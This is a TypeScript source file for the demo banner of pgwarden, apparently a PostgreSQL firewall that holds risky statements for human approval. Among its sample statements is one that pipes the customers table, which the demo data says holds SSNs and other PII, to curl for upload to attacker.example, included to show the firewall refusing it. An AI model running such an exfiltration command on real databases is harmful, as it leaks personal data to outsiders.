// The text `pgwarden demo` prints once everything is up: what runs where, the connection string, the console link that
// signs the approver in, and statements to try. Colour only on a TTY (styleText checks the stream, NO_COLOR, FORCE_COLOR).
import { styleText } from 'node:util';

export interface BannerInfo {
  readonly proxy: { host: string; port: number };
  /** Connection string clients use (through pgwarden). */
  readonly connectionString: string;
  /** Console URL including `#token=…`. */
  readonly consoleUrl: string;
  /** pgwarden's HTTP base URL (API, metrics). */
  readonly publicUrl: string;
  readonly token: string;
  readonly approver: string;
  readonly approverGroups: readonly string[];
  /** What the demo proxies to: the embedded database, or the --upstream URL (without credentials). */
  readonly upstream: { embedded: true } | { embedded: false; display: string; seeded: boolean; hasPassword: boolean };
  readonly rulesFile: string;
  readonly rulesNote: string;
  readonly activityFeed: boolean;
  /** The embedded database vanishes on exit; an --upstream one does not. */
  readonly discardsData: boolean;
}

const shell = (s: string) => `"${s.replace(/(["\\$`])/g, '\\$1')}"`;

export const DEMO_STATEMENTS = {
  read: 'SELECT name FROM products LIMIT 5',
  export: 'COPY customers TO STDOUT WITH (FORMAT csv, HEADER)',
  grant: 'GRANT SELECT ON customers TO PUBLIC',
  program: "COPY customers TO PROGRAM 'curl -T - https://attacker.example'",
} as const;

export function formatBanner(info: BannerInfo): string {
  const b = (s: string) => styleText('bold', s);
  const dim = (s: string) => styleText('dim', s);
  const cyan = (s: string) => styleText('cyan', s);
  const green = (s: string) => styleText('green', s);
  const yellow = (s: string) => styleText('yellow', s);
  const red = (s: string) => styleText('red', s);
  const psql = (sql: string) => `     psql ${shell(info.connectionString)} -c ${shell(sql)}`;
  const database = info.upstream.embedded
    ? 'embedded PostgreSQL (PGlite, in memory) with demo data: customers (PII: email, phone, ssn, date_of_birth), products, orders, order_items'
    : `${info.upstream.display}${info.upstream.seeded ? ' (demo tables created by --seed)' : ''}`;
  const lines = [
    '',
    `${b(green('pgwarden demo is running'))}  ${dim('— a PostgreSQL firewall with human approvals')}`,
    '',
    `  database   ${database}`,
    `  firewall   ${info.proxy.host}:${info.proxy.port}  ${dim('(every statement is parsed, checked against the rules, then passed on, held or refused)')}`,
    `  rules      ${info.rulesNote}`,
    `             ${dim(info.rulesFile)}`,
    '',
    `  connect    ${cyan(info.connectionString)}`,
    ...(!info.upstream.embedded && info.upstream.hasPassword ? [`             ${dim('pgwarden passes authentication through: use the upstream password (e.g. PGPASSWORD=…); it is not shown here')}`] : []),
    `  console    ${cyan(info.consoleUrl)}`,
    `             ${dim(`opens the approval console signed in as ${info.approver} (groups: ${info.approverGroups.join(', ')}); the token is new each run`)}`,
    '',
    b('Try it (in another terminal):'),
    `  1. ${green('A read passes')}`,
    psql(DEMO_STATEMENTS.read),
    `  2. ${yellow('An export waits for approval')} — psql shows "waiting for approval"; approve it in the console`,
    psql(DEMO_STATEMENTS.export),
    `  3. ${yellow('A GRANT is reviewed')} by the security group, and ${red('COPY … TO PROGRAM is refused')}`,
    psql(DEMO_STATEMENTS.grant),
    psql(DEMO_STATEMENTS.program),
    `  4. An example AI agent, from a clone of the pgwarden repository`,
    `     DATABASE_URL=${shell(info.connectionString)} node examples/agent.mjs`,
    '',
    dim(`  Approve from a terminal instead: PGWARDEN_URL=${info.publicUrl} PGWARDEN_TOKEN=${info.token} npx pgwarden approvals list`),
    ...(info.upstream.embedded || info.upstream.seeded ? [] : [dim('  (The example tables exist only with --seed; without it, use your own tables.)')]),
    dim(`  ${info.activityFeed ? 'Activity appears below as it happens. ' : ''}Press Ctrl-C to stop${info.discardsData ? ' (the embedded database and approvals are discarded)' : ''}.`),
    '',
  ];
  return lines.join('\n');
}
